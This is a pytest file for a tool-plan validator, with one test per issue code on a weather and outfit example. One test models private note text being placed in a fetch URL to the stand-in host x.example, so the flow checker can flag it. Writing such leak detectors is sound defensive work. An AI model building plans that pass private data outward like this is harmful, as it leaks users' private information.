"""The validator, one issue code at a time, on the seed's weather -> outfit tools."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from tooldag.errors import PlanInvalidError
from tooldag.issues import Issue
from tooldag.plan import Plan
from tooldag.plan.parse import parse_plan
from tooldag.registry import ToolRegistry, tool
from tooldag.validate.flows import flow_issues
from tooldag.validate.validator import ISSUE_CODES, check_plan, validate

WEATHER = {"id": "weather", "tool": "get_weather", "args": {"location": "London"}}
OUTFIT = {
    "id": "outfit",
    "tool": "recommend_outfit",
    "args": {"temperature": "$weather.temp", "condition": "$weather.condition"},
}
ALERT = {
    "id": "alert",
    "tool": "send_alert",
    "args": {"message": "Freezing in ${weather.location}!"},
    "when": {"ref": "$weather.temp", "op": "<", "value": 0},
}


def plan_of(*steps: dict[str, Any], answer: str | None = None) -> Plan:
    data: dict[str, Any] = {"goal": "test", "steps": [copy.deepcopy(s) for s in steps]}
    if answer is not None:
        data["answer"] = answer
    return Plan.model_validate(data)


def only(issues: list[Issue], code: str) -> Issue:
    """The single issue, which must have ``code``."""
    assert [i.code for i in issues] == [code], issues
    return issues[0]


def with_args(step: dict[str, Any], **args: Any) -> dict[str, Any]:
    return {**step, "args": {**step["args"], **args}}


def test_the_seed_plan_is_valid(weather_registry: ToolRegistry, examples_dir: Path) -> None:
    plan = parse_plan((examples_dir / "weather_plan.json").read_text(encoding="utf-8"))
    assert validate(plan, weather_registry) == []
    assert check_plan(plan, weather_registry) is plan


def test_step_order_does_not_matter(weather_registry: ToolRegistry) -> None:
    plan = plan_of(ALERT, OUTFIT, WEATHER, answer="Wear ${outfit.outfit}")
    assert validate(plan, weather_registry) == []


def test_invalid_id(weather_registry: ToolRegistry) -> None:
    issue = only(
        validate(plan_of({**WEATHER, "id": "get weather"}), weather_registry), "invalid_id"
    )
    assert issue.step == "get weather"
    assert issue.path == "steps[0].id"
    assert issue.hint is not None and "get_weather" in issue.hint


def test_duplicate_id(weather_registry: ToolRegistry) -> None:
    issue = only(validate(plan_of(WEATHER, WEATHER), weather_registry), "duplicate_id")
    assert issue.path == "steps[1].id"
    assert "steps 0 and 1" in issue.message


def test_unknown_tool_with_closest_name_hint(weather_registry: ToolRegistry) -> None:
    step = {**WEATHER, "tool": "get_wether"}
    issue = only(validate(plan_of(step), weather_registry), "unknown_tool")
    assert issue.path == "steps[0].tool"
    assert issue.hint == "did you mean get_weather?"


def test_unknown_tool_without_a_close_name_lists_the_tools(weather_registry: ToolRegistry) -> None:
    issue = only(
        validate(plan_of({**WEATHER, "tool": "book_flight"}), weather_registry), "unknown_tool"
    )
    assert issue.hint == "available tools: get_weather, recommend_outfit, send_alert"


def test_unknown_step_in_depends_on(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, {**OUTFIT, "depends_on": ["wether"]})
    issue = only(validate(plan, weather_registry), "unknown_step")
    assert issue.step == "outfit"
    assert issue.path == "steps[1].depends_on[0]"
    assert issue.hint == "did you mean $weather?"


def test_unknown_step_in_a_reference(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="$forecast.temp"))
    issue = only(validate(plan, weather_registry), "unknown_step")
    assert issue.path == "steps[1].args.temperature"
    assert "$forecast.temp" in issue.message


def test_unknown_step_in_the_answer(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, OUTFIT, answer="Wear ${outfits.outfit}")
    issue = only(validate(plan, weather_registry), "unknown_step")
    assert issue.step is None and issue.path == "answer"
    assert issue.hint == "did you mean $outfit?"


def test_cycle_is_reported_as_its_path(weather_registry: ToolRegistry) -> None:
    plan = plan_of(with_args(WEATHER, location="$outfit.outfit"), OUTFIT)
    issue = only(validate(plan, weather_registry), "cycle")
    assert "weather -> outfit -> weather" in issue.message
    assert issue.hint is not None and issue.hint.startswith("cycle: weather -> outfit -> weather")


def test_longer_cycle_through_depends_on(weather_registry: ToolRegistry) -> None:
    a = {**WEATHER, "id": "a", "depends_on": ["c"]}
    b = {**WEATHER, "id": "b", "depends_on": ["a"]}
    c = {**WEATHER, "id": "c", "depends_on": ["b"]}
    tail = {**WEATHER, "id": "d", "depends_on": ["c"]}  # downstream of the cycle, not in it
    issue = only(validate(plan_of(tail, c, b, a), weather_registry), "cycle")
    # Reported from the cycle's first step in the list; "x -> y" reads "x waits for y".
    assert "c -> b -> a -> c" in issue.message
    assert issue.step == "c" and issue.path == "steps[1]"


def test_self_reference_is_a_cycle(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, condition="$outfit.outfit"))
    issue = only(validate(plan, weather_registry), "cycle")
    assert issue.step == "outfit" and issue.path == "steps[1].args.condition"
    assert issue.hint is not None and "outfit -> outfit" in issue.hint
    self_dep = only(
        validate(plan_of({**WEATHER, "depends_on": ["weather"]}), weather_registry), "cycle"
    )
    assert self_dep.path == "steps[0].depends_on[0]"


def test_forward_reference_to_a_later_step_is_fine(weather_registry: ToolRegistry) -> None:
    assert validate(plan_of(OUTFIT, WEATHER), weather_registry) == []


@pytest.mark.parametrize(
    "value",
    ["$weather.", "It is ${weather.temp", "${weather temp}", "It is $weather.temp.toFixed(1) C"],
)
def test_bad_reference(weather_registry: ToolRegistry, value: str) -> None:
    plan = plan_of(WEATHER, {**ALERT, "args": {"message": value}})
    issue = only(validate(plan, weather_registry), "bad_reference")
    assert issue.path == "steps[1].args.message"


def test_bare_reference(weather_registry: ToolRegistry) -> None:
    """``$step.path`` inside text, where ``step`` is a step of the plan, is read as
    ``${step.path}``: a warning, not an error."""
    plan = plan_of(WEATHER, OUTFIT, answer="Wear $outfit.outfit today")
    issue = only(validate(plan, weather_registry), "bare_reference")
    assert issue.severity == "warning" and issue.path == "answer" and issue.step is None
    assert "$outfit.outfit inside text is read as ${outfit.outfit}" in issue.message
    assert plan.answer == "Wear ${outfit.outfit} today"
    # A dollar amount, a name that is no step, or an escaped dollar, is just text.
    fine = plan_of(WEATHER, OUTFIT, answer="Costs $5 in $PATH, or $$outfit: ${outfit.outfit}")
    assert validate(fine, weather_registry) == []
    assert fine.answer == "Costs $5 in $PATH, or $$outfit: ${outfit.outfit}"


def test_coerced_argument(weather_registry: ToolRegistry) -> None:
    """A number into a parameter that takes free text is passed as its text: a warning."""
    plan = plan_of(WEATHER, with_args(ALERT, message="$weather.temp"))
    issue = only(validate(plan, weather_registry), "coerced_argument")
    assert issue.severity == "warning" and issue.path == "steps[1].args.message"
    assert "send_alert.message takes a string, and $weather.temp is a number" in issue.message
    assert issue.hint == 'write "${weather.temp}" to pass the text itself'


def test_guessed_answer(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, OUTFIT, answer="Wear a raincoat.")
    issue = only(validate(plan, weather_registry), "guessed_answer")
    assert issue.severity == "warning" and issue.path == "answer"
    assert "reads no step's output, though the plan has 2 steps" in issue.message
    assert issue.hint == "put what the steps find into it, e.g. ${outfit.field}"
    # No steps: the answer is all there is, and that is fine.
    assert validate(plan_of(answer="Hello!"), weather_registry) == []


def test_unknown_field_with_hint(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="$weather.temperature"))
    issue = only(validate(plan, weather_registry), "unknown_field")
    assert "get_weather's output has no field 'temperature'" in issue.message
    assert issue.hint == "did you mean $weather.temp?"


def test_unknown_field_below_a_number_says_what_it_is(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="$weather.temp.celsius"))
    issue = only(validate(plan, weather_registry), "unknown_field")
    assert issue.hint == "$weather.temp is a number; reference it whole"


def test_missing_argument(weather_registry: ToolRegistry) -> None:
    outfit = {**OUTFIT, "args": {"temperature": "$weather.temp"}}
    issue = only(validate(plan_of(WEATHER, outfit), weather_registry), "missing_argument")
    assert issue.message == "recommend_outfit needs argument 'condition' (a string)"
    assert issue.path == "steps[1].args"
    assert issue.hint == 'Weather condition, e.g. "rainy".'


def test_unexpected_argument(weather_registry: ToolRegistry) -> None:
    plan = plan_of(with_args(WEATHER, city="London"))
    issue = only(validate(plan, weather_registry), "unexpected_argument")
    assert issue.path == "steps[0].args.city"
    assert issue.hint == "its arguments: location"
    close = only(
        validate(plan_of(with_args(WEATHER, locaton="x")), weather_registry), "unexpected_argument"
    )
    assert close.hint == "did you mean 'location'?"


def test_type_mismatch_for_a_literal(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="warm"))
    issue = only(validate(plan, weather_registry), "type_mismatch")
    assert issue.message == "recommend_outfit.temperature: expected a number, got string 'warm'"
    assert issue.path == "steps[1].args.temperature"


def test_type_mismatch_for_a_reference_whose_type_cannot_fit(
    weather_registry: ToolRegistry,
) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="$weather.condition"))
    issue = only(validate(plan, weather_registry), "type_mismatch")
    assert "takes a number, but $weather.condition is a string" in issue.message


def test_reference_types_that_can_fit_are_accepted(weather_registry: ToolRegistry) -> None:
    @tool
    def count() -> int:
        return 1

    weather_registry.add(count)
    n = {"id": "n", "tool": "count", "args": {}}
    # An integer fits a number parameter; a whole value fits any parameter.
    plan = plan_of(WEATHER, n, with_args(OUTFIT, temperature="$n"), {**ALERT, "when": None})
    assert validate(plan, weather_registry) == []


def test_template_into_a_number_parameter_is_a_type_mismatch(
    weather_registry: ToolRegistry,
) -> None:
    plan = plan_of(WEATHER, with_args(OUTFIT, temperature="${weather.temp}"))
    issue = only(validate(plan, weather_registry), "type_mismatch")
    assert "interpolation" in issue.message


def test_condition_on_an_unknown_step_is_an_unknown_step(weather_registry: ToolRegistry) -> None:
    plan = plan_of(WEATHER, {**ALERT, "when": {"ref": "$forecast.temp", "op": "<", "value": 0}})
    issue = only(validate(plan, weather_registry), "unknown_step")
    assert issue.path == "steps[1].when.ref"


@pytest.mark.parametrize(
    ("when", "path", "text"),
    [
        (
            {"ref": "weather temp", "op": "<", "value": 0},
            "steps[1].when.ref",
            "must be a reference",
        ),
        ({"ref": "$weather.temp", "op": "below", "value": 0}, "steps[1].when.op", "unknown"),
        ({"ref": "$weather.temp", "op": "<", "value": "cold"}, "steps[1].when.value", "ordered"),
        ({"ref": "$weather.temp", "op": "<", "value": [0]}, "steps[1].when.value", "orders"),
        ({"ref": "$weather.temp", "op": "in", "value": 3}, "steps[1].when.value", "'in'"),
        ({"ref": "$weather.temp", "op": "contains", "value": 3}, "steps[1].when.value", "contains"),
        ({"all": []}, "steps[1].when.all", "at least one"),
        ({"any": [{"op": "=="}]}, "steps[1].when.any[0]", "no 'ref'"),
        ({"not": {"ref": "$weather.temp", "op": "=<", "value": 1}}, "steps[1].when.not.op", "<="),
        (
            {
                "ref": "$weather.temp",
                "op": "<",
                "value": 0,
                "all": [{"ref": "$weather.temp", "op": "<", "value": 1}],
            },
            "steps[1].when",
            "one of all/any/not/ref",
        ),
    ],
)
def test_bad_condition(
    weather_registry: ToolRegistry, when: dict[str, Any], path: str, text: str
) -> None:
    plan = plan_of(WEATHER, {**ALERT, "when": when})
    issue = only(validate(plan, weather_registry), "bad_condition")
    assert issue.path == path
    assert text in issue.message + (issue.hint or "")


def test_good_conditions_pass(weather_registry: ToolRegistry) -> None:
    when = {
        "all": [
            {"ref": "$weather.temp", "op": ">=", "value": -10},
            {"ref": "$weather.condition", "op": "in", "value": ["rainy", "snowy"]},
            {"any": [{"ref": "$weather.location", "op": "contains", "value": "Lon"}]},
            {"not": {"ref": "$weather.condition", "op": "is_none"}},
            {"ref": "$weather.error", "op": "is_none"},  # an absent last key reads as null
            {"ref": "$weather.temp", "op": "<", "value": "$outfit.outfit"},
        ]
    }
    plan = plan_of(WEATHER, OUTFIT, {**ALERT, "when": when})
    assert validate(plan, weather_registry) == []


def test_empty_plan(weather_registry: ToolRegistry) -> None:
    issue = only(validate(Plan(), weather_registry), "empty_plan")
    assert issue.hint
    assert validate(Plan(answer="Nothing to do."), weather_registry) == []


def test_data_flow_is_a_finding_of_flows_that_validate_never_returns() -> None:
    @tool(side_effects=False, reads_private=True)
    def read_note(name: str) -> dict[str, str]:
        """Read a note."""
        return {"text": name}

    @tool(side_effects=False, egress=["url"])
    def fetch(url: str) -> dict[str, str]:
        """Fetch a URL."""
        return {"text": url}

    registry = ToolRegistry([read_note, fetch])
    plan = plan_of(
        {"id": "n", "tool": "read_note", "args": {"name": "diary"}},
        {"id": "g", "tool": "fetch", "args": {"url": "https://x.example/?${n.text}"}},
    )
    assert validate(plan, registry) == []  # valid: the planner is not asked again for a flow
    issue = only(flow_issues(plan, registry), "data_flow")
    assert (issue.step, issue.path) == ("g", "steps[1].args.url")
    assert 'read_note(name="diary") -> fetch.url' in issue.message


def test_every_issue_code_has_a_test_here() -> None:
    text = Path(__file__).read_text(encoding="utf-8")
    for code in ISSUE_CODES:
        assert f"def test_{code}" in text, code


def test_issues_are_json_ready_and_check_plan_raises_them(weather_registry: ToolRegistry) -> None:
    plan = plan_of({**WEATHER, "tool": "nope"}, with_args(OUTFIT, temperature="$x"))
    issues = validate(plan, weather_registry)
    assert {i.code for i in issues} == {"unknown_tool", "unknown_step"}
    json.dumps([i.to_dict() for i in issues])
    with pytest.raises(PlanInvalidError) as error:
        check_plan(plan, weather_registry)
    assert error.value.issues == issues


def test_schema_only_tools_are_checked_the_same_way() -> None:
    registry = ToolRegistry.from_json(
        [
            {
                "name": "search",
                "parameters": {
                    "type": "object",
                    "properties": {
                        "query": {"type": "string", "minLength": 2},
                        "limit": {"type": "integer", "minimum": 1},
                    },
                    "required": ["query"],
                },
                "output_schema": {
                    "type": "object",
                    "properties": {
                        "results": {
                            "type": "array",
                            "items": {"type": "object", "properties": {"url": {"type": "string"}}},
                        }
                    },
                },
            }
        ]
    )
    good = [
        {"id": "a", "tool": "search", "args": {"query": "cats", "limit": 3}},
        {"id": "b", "tool": "search", "args": {"query": "$a.results.0.url"}},
    ]
    assert validate(parse_plan(good), registry) == []
    bad = [
        {"id": "a", "tool": "search", "args": {"query": "x", "limit": 0}},
        {"id": "b", "tool": "search", "args": {"query": "$a.results.0.link"}},
    ]
    codes = [(i.code, i.path) for i in validate(parse_plan(bad), registry)]
    assert codes == [
        ("type_mismatch", "steps[0].args.query"),
        ("type_mismatch", "steps[0].args.limit"),
        ("unknown_field", "steps[1].args.query"),
    ]
